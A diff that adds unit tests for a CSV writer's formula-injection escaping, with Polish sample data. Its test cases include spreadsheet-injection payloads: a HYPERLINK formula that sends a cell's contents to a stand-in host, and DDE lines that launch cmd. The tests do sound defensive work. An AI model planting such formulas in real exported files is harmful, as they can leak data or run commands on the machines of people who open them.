@@ -326,6 +326,32 @@ describe('writeCsv', () => {
 		expect(buf).toEqual(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('a,b,c\r\ną,,3\r\n', 'utf8')]));
 	});
 
+	it.each([
+		['=HYPERLINK("http://zły.example/?"&A1;"Faktura")', `'=HYPERLINK(""http://zły.example/?""&A1;""Faktura"")`],
+		['+48 600 100 200', "'+48 600 100 200"],
+		["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+		["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+		['\t=1+1', "'\t=1+1"],
+		['\r=1+1', "'\r=1+1"],
+	])('escapes a cell that a spreadsheet would run as a formula: %p', async (note, cell) => {
+		const buf = writeCsv([{ kod: 'ŻÓŁ-1', uwagi: note }], { columns: ['kod', 'uwagi'], delimiter: ';' });
+		const text = buf.toString('utf8');
+		expect(text).toContain(`"${cell}"`);
+		const back = (await readAll(buf, { encoding: 'utf-8', delimiter: ';' })).records[0];
+		expect(back.record.uwagi).toBe(`'${note}`);
+	});
+
+	it('leaves numbers, negative amounts and ordinary text alone', () => {
+		const rows = [{ a: '-3', b: '-12.50', c: '+5', d: 'zażółć = gęślą', e: -4, f: '1-2' }];
+		const buf = writeCsv(rows, { columns: ['a', 'b', 'c', 'd', 'e', 'f'], delimiter: ';' });
+		expect(buf.toString('utf8')).toBe('a;b;c;d;e;f\r\n-3;-12.50;+5;zażółć = gęślą;-4;1-2\r\n');
+	});
+
+	it('writes formulae as they are when escaping is switched off', () => {
+		const buf = writeCsv([{ a: '=1+1' }], { columns: ['a'], escapeFormulae: false });
+		expect(buf.toString('utf8')).toBe('a\r\n=1+1\r\n');
+	});
+
 	it('refuses a character the encoding lacks', () => {
 		expect(() => writeCsv([{ a: 'cena 5 €' }], { columns: ['a'], encoding: 'iso-8859-2' })).toThrow(
 			'character "€" (U+20AC) at position 10 cannot be written in iso-8859-2',
